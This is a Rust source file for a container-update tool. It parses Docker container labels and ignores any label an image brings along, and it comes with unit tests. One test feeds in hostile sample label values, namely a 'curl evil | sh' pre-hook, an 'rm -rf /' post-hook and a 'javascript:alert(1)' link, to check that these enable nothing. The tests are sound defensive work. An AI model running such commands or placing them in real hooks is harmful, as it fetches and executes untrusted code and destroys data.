//! Reading labels. Only those count that the user set on the container: a label that the image
//! brought along is content from outside and enables nothing (DESIGN.md 3.11).

use std::collections::BTreeMap;

use super::{ContainerRules, HookRules, RollbackRules, TagFamily};
use crate::container::{ComposeRef, Manager};
use crate::policy::{MaturityMode, UpdatePolicy};

type Labels = BTreeMap<String, String>;

/// A label's value is cut off in messages after this many characters.
const SHOWN: usize = 60;

/// A container's labels without those of its image.
///
/// Docker merges both and does not say which is which; a label counts as the image's when the
/// image has it with the same value. So a user who sets a label to just the image's value is not
/// heard, which is the safe side.
#[derive(Clone, Copy, Debug)]
pub struct UserLabels<'a> {
    container: &'a Labels,
    image: &'a Labels,
}

impl<'a> UserLabels<'a> {
    pub fn new(container: &'a Labels, image: &'a Labels) -> Self {
        Self { container, image }
    }

    /// The label's value, if the user set it and it is not blank.
    pub fn get(&self, key: &str) -> Option<&'a str> {
        let value = self.container.get(key)?;
        let from_image = self.image.get(key) == Some(value);
        let value = value.trim();
        (!from_image && !value.is_empty()).then_some(value)
    }

    /// The Compose service the container belongs to. One-off containers (`docker compose run`)
    /// belong to none: they would share the service's identity, and with it policy and history.
    pub fn compose(&self) -> Option<ComposeRef> {
        let project = self.get("com.docker.compose.project")?;
        let service = self.get("com.docker.compose.service")?;
        let one_off = self
            .get("com.docker.compose.oneoff")
            .is_some_and(|v| v.eq_ignore_ascii_case("true"));
        (!one_off).then(|| ComposeRef {
            project: project.to_owned(),
            service: service.to_owned(),
        })
    }

    /// Another controller that owns the container. Only by labels of its own making: an image
    /// cannot keep itself from being updated.
    pub fn manager(&self) -> Option<Manager> {
        const MARKS: [(&str, Manager); 4] = [
            ("com.docker.swarm.service.id", Manager::Swarm),
            ("io.kubernetes.pod.uid", Manager::Kubernetes),
            ("io.kubernetes.pod.name", Manager::Kubernetes),
            ("com.hashicorp.nomad.alloc_id", Manager::Nomad),
        ];
        MARKS
            .iter()
            .find(|(key, _)| self.get(key).is_some())
            .map(|(_, manager)| *manager)
    }

    /// Everything that the labels ask for.
    pub fn rules(&self) -> ContainerRules {
        let mut problems = Vec::new();
        let mut reader = Reader {
            labels: *self,
            problems: &mut problems,
        };
        let mut rules = reader.rules();
        rules.problems = problems;
        rules
    }
}

/// Where the source of an image is kept, by its own word: OCI's `source`, else `url`. Only web
/// addresses: they end up as links in browsers.
pub fn source_repo(labels: &BTreeMap<String, String>) -> Option<&str> {
    [
        "org.opencontainers.image.source",
        "org.opencontainers.image.url",
    ]
    .iter()
    .filter_map(|key| labels.get(*key))
    .map(|url| url.trim())
    .find(|url| url.starts_with("https://") || url.starts_with("http://"))
}

struct Reader<'a, 'p> {
    labels: UserLabels<'a>,
    problems: &'p mut Vec<String>,
}

impl Reader<'_, '_> {
    fn rules(&mut self) -> ContainerRules {
        ContainerRules {
            watch: self.flag("watch"),
            include_tags: self.text("tag.include"),
            exclude_tags: self.text("tag.exclude"),
            transform_tags: self.text("tag.transform"),
            tag_family: self.choice(
                "tag.family",
                &[("strict", TagFamily::Strict), ("loose", TagFamily::Loose)],
            ),
            watch_digest: self.flag("watch.digest"),
            lookup_image: self
                .text("registry.lookup.image")
                .or_else(|| self.text("registry.lookup.url")),
            inspect_tag_path: self.text("inspect.tag.path"),
            display_name: self.text("display.name"),
            display_icon: self.text("display.icon"),
            display_picture: self.text("display.picture"),
            link_template: self.text("link.template"),
            group: self.text("group"),
            trigger_include: self.text("trigger.include"),
            trigger_exclude: self.text("trigger.exclude"),
            webhook_enabled: self.flag("webhook.enabled"),
            rollback: RollbackRules {
                auto: self.flag("rollback.auto"),
                window_ms: self.number("rollback.window", "milliseconds", 1..=86_400_000),
                interval_ms: self.number("rollback.interval", "milliseconds", 1..=86_400_000),
                gate: self.choice("update.rollback-gate", &[("on", true), ("off", false)]),
            },
            hooks: HookRules {
                pre: self.text("hook.pre"),
                post: self.text("hook.post"),
                pre_abort: self.flag("hook.pre.abort"),
                timeout_ms: self.number("hook.timeout", "milliseconds", 1..=86_400_000),
            },
            stability_secs: self.stability(),
            policy: self.policy(),
            infrastructure: self
                .choice(
                    "update.mode",
                    &[("infrastructure", true), ("standard", false)],
                )
                .unwrap_or(false),
            compose_file: self.text("compose.file"),
            source_repo: self.text("source.repo"),
            problems: Vec::new(),
        }
    }

    /// `dd.<name>`, else the older `wud.<name>`, with the key it was found under. Drydock knows
    /// `wud.` for the older labels only; there is no other meaning that the rest could have.
    fn find(&self, name: &str) -> Option<(String, &str)> {
        ["dd", "wud"].iter().find_map(|namespace| {
            let key = format!("{namespace}.{name}");
            let value = self.labels.get(&key)?;
            Some((key, value))
        })
    }

    fn text(&self, name: &str) -> Option<String> {
        self.find(name).map(|(_, value)| value.to_owned())
    }

    fn choice<T: Copy>(&mut self, name: &str, values: &[(&str, T)]) -> Option<T> {
        let (key, text) = self.find(name)?;
        let found = values.iter().find(|(v, _)| v.eq_ignore_ascii_case(text));
        if found.is_none() {
            let known: Vec<_> = values.iter().map(|(v, _)| *v).collect();
            let problem = format!("{key}: `{}` is none of {}", cut(text), known.join(", "));
            self.problems.push(problem);
        }
        found.map(|(_, value)| *value)
    }

    fn flag(&mut self, name: &str) -> Option<bool> {
        self.choice(name, &[("true", true), ("false", false)])
    }

    fn number(
        &mut self,
        name: &str,
        unit: &str,
        range: std::ops::RangeInclusive<u32>,
    ) -> Option<u32> {
        let (key, text) = self.find(name)?;
        let number = text.parse().ok().filter(|n| range.contains(n));
        if number.is_none() {
            let problem = format!(
                "{key}: `{}` is not a number of {unit} from {} to {}",
                cut(text),
                range.start(),
                range.end()
            );
            self.problems.push(problem);
        }
        number
    }

    /// Ours, so also in our own name, which wins.
    fn stability(&mut self) -> Option<u32> {
        const KEY: &str = "plimsoll.update.stability";
        match self.labels.get(KEY) {
            None => self.number("update.stability", "seconds", 1..=86_400),
            Some(text) => {
                let seconds = text.parse().ok().filter(|n| (1..=86_400).contains(n));
                if seconds.is_none() {
                    self.problems.push(format!(
                        "{KEY}: `{}` is not a number of seconds from 1 to 86400",
                        cut(text)
                    ));
                }
                seconds
            }
        }
    }

    fn policy(&mut self) -> Option<UpdatePolicy> {
        let list = |text: Option<String>| -> Vec<String> {
            text.unwrap_or_default()
                .split(',')
                .map(str::trim)
                .filter(|item| !item.is_empty())
                .map(str::to_owned)
                .collect()
        };
        let policy = UpdatePolicy {
            skip_tags: list(self.text("updatePolicy.skipTags")),
            skip_digests: list(self.text("updatePolicy.skipDigests")),
            snooze_until: None,
            maturity_mode: self.choice(
                "updatePolicy.maturityMode",
                &[("all", MaturityMode::All), ("mature", MaturityMode::Mature)],
            ),
            maturity_min_age_days: self
                .number("updatePolicy.maturityMinAgeDays", "days", 1..=365)
                .and_then(|days| u16::try_from(days).ok()),
        };
        (!policy.is_empty()).then_some(policy)
    }
}

fn cut(text: &str) -> &str {
    text.char_indices()
        .nth(SHOWN)
        .map_or(text, |(end, _)| &text[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn labels(pairs: &[(&str, &str)]) -> Labels {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    fn rules(pairs: &[(&str, &str)]) -> ContainerRules {
        UserLabels::new(&labels(pairs), &Labels::new()).rules()
    }

    #[test]
    fn every_label_is_read() {
        let rules = rules(&[
            ("dd.watch", "true"),
            ("dd.tag.include", r"^\d+$"),
            ("dd.tag.exclude", "rc"),
            ("dd.tag.transform", "(.*) => $1"),
            ("dd.tag.family", "loose"),
            ("dd.watch.digest", "FALSE"),
            ("dd.registry.lookup.image", "library/nginx"),
            ("dd.inspect.tag.path", "Config/Labels/version"),
            ("dd.display.name", "Web"),
            ("dd.display.icon", "sh:nginx"),
            ("dd.display.picture", "https://x/y.png"),
            ("dd.link.template", "https://x/${original}"),
            ("dd.group", "front"),
            ("dd.trigger.include", "docker.local:minor"),
            ("dd.trigger.exclude", "slack.x"),
            ("dd.webhook.enabled", "false"),
            ("dd.rollback.auto", "true"),
            ("dd.rollback.window", "300000"),
            ("dd.rollback.interval", "10000"),
            ("dd.update.rollback-gate", "off"),
            ("dd.hook.pre", "backup"),
            ("dd.hook.post", "warm"),
            ("dd.hook.pre.abort", "false"),
            ("dd.hook.timeout", "1000"),
            ("dd.update.stability", "3"),
            ("dd.updatePolicy.skipTags", "1.0, 2.0"),
            ("dd.updatePolicy.maturityMode", "mature"),
            ("dd.updatePolicy.maturityMinAgeDays", "14"),
            ("dd.update.mode", "infrastructure"),
            ("dd.compose.file", "/srv/a.yml"),
            ("dd.source.repo", "https://git/x"),
        ]);
        assert_eq!(rules.problems, Vec::<String>::new());
        let json = serde_json::to_value(&rules).unwrap();
        assert_eq!(
            json,
            serde_json::json!({
                "watch": true, "includeTags": r"^\d+$", "excludeTags": "rc",
                "transformTags": "(.*) => $1", "tagFamily": "loose", "watchDigest": false,
                "lookupImage": "library/nginx", "inspectTagPath": "Config/Labels/version",
                "displayName": "Web", "displayIcon": "sh:nginx",
                "displayPicture": "https://x/y.png", "linkTemplate": "https://x/${original}",
                "group": "front", "triggerInclude": "docker.local:minor",
                "triggerExclude": "slack.x", "webhookEnabled": false,
                "rollback": {"auto": true, "windowMs": 300000, "intervalMs": 10000, "gate": false},
                "hooks": {"pre": "backup", "post": "warm", "preAbort": false, "timeoutMs": 1000},
                "stabilitySecs": 3,
                "policy": {"skipTags": ["1.0", "2.0"], "maturityMode": "mature", "maturityMinAgeDays": 14},
                "infrastructure": true, "composeFile": "/srv/a.yml", "sourceRepo": "https://git/x",
            })
        );
        assert_eq!(
            serde_json::from_value::<ContainerRules>(json).unwrap(),
            rules
        );
    }

    #[test]
    fn older_names_are_read_and_the_newer_one_wins() {
        assert_eq!(
            rules(&[("wud.tag.include", "a")]).include_tags.as_deref(),
            Some("a")
        );
        let both = rules(&[("wud.tag.include", "a"), ("dd.tag.include", "b")]);
        assert_eq!(both.include_tags.as_deref(), Some("b"));
        let own = rules(&[
            ("dd.update.stability", "9"),
            ("plimsoll.update.stability", "2"),
        ]);
        assert_eq!(own.stability_secs, Some(2));
    }

    #[test]
    fn unreadable_values_become_messages_and_change_nothing() {
        let rules = rules(&[
            ("dd.watch", "maybe"),
            ("dd.update.stability", "0"),
            ("dd.updatePolicy.maturityMinAgeDays", "400"),
            ("dd.tag.family", "wild"),
            ("dd.tag.include", "  "),
        ]);
        assert_eq!(rules.watch, None);
        assert_eq!(rules.include_tags, None);
        assert_eq!(rules.problems.len(), 4, "{:?}", rules.problems);
        assert!(rules.problems[0].contains("dd.watch: `maybe` is none of true, false"));
    }

    #[test]
    fn an_images_own_labels_enable_nothing() {
        let hostile = labels(&[
            ("dd.watch", "false"),
            ("wud.watch", "false"),
            ("dd.tag.include", "^never$"),
            ("dd.tag.exclude", ".*"),
            ("dd.watch.digest", "false"),
            ("dd.registry.lookup.image", "evil/image"),
            ("dd.hook.pre", "curl evil | sh"),
            ("dd.hook.post", "rm -rf /"),
            ("dd.update.mode", "infrastructure"),
            ("dd.update.rollback-gate", "off"),
            ("dd.update.stability", "86400"),
            ("plimsoll.update.stability", "86400"),
            ("dd.trigger.include", "docker.local:all"),
            ("dd.webhook.enabled", "false"),
            ("dd.rollback.auto", "false"),
            ("dd.updatePolicy.skipTags", "1.0.1"),
            ("dd.display.name", "postgres"),
            ("dd.link.template", "javascript:alert(1)"),
            ("com.docker.compose.project", "prod"),
            ("com.docker.compose.service", "db"),
            ("io.kubernetes.pod.uid", "1"),
            ("com.docker.swarm.service.id", "1"),
        ]);
        let user = UserLabels::new(&hostile, &hostile);
        assert_eq!(user.rules(), ContainerRules::default());
        assert_eq!(user.compose(), None);
        assert_eq!(user.manager(), None);
    }

    #[test]
    fn a_users_label_over_the_images_counts() {
        let image = labels(&[("dd.watch", "true")]);
        let container = labels(&[("dd.watch", "false")]);
        assert_eq!(
            UserLabels::new(&container, &image).rules().watch,
            Some(false)
        );
    }

    #[test]
    fn compose_services_are_recognised_but_not_their_one_off_runs() {
        let mut set = labels(&[
            ("com.docker.compose.project", "shop"),
            ("com.docker.compose.service", "web"),
        ]);
        let none = Labels::new();
        let compose = UserLabels::new(&set, &none).compose().unwrap();
        assert_eq!((&*compose.project, &*compose.service), ("shop", "web"));
        set.insert("com.docker.compose.oneoff".into(), "True".into());
        assert_eq!(UserLabels::new(&set, &none).compose(), None);
    }

    #[test]
    fn the_source_of_an_image_is_a_web_address() {
        let source = |key, value| source_repo(&labels(&[(key, value)])).map(str::to_owned);
        let own = "org.opencontainers.image.source";
        assert_eq!(
            source(own, " https://git/x ").as_deref(),
            Some("https://git/x")
        );
        assert_eq!(source(own, "javascript:alert(1)"), None);
        assert_eq!(
            source("org.opencontainers.image.url", "http://x").as_deref(),
            Some("http://x")
        );
    }

    #[test]
    fn other_managers_are_recognised() {
        let set = labels(&[("com.docker.swarm.service.id", "abc")]);
        assert_eq!(
            UserLabels::new(&set, &Labels::new()).manager(),
            Some(Manager::Swarm)
        );
    }
}
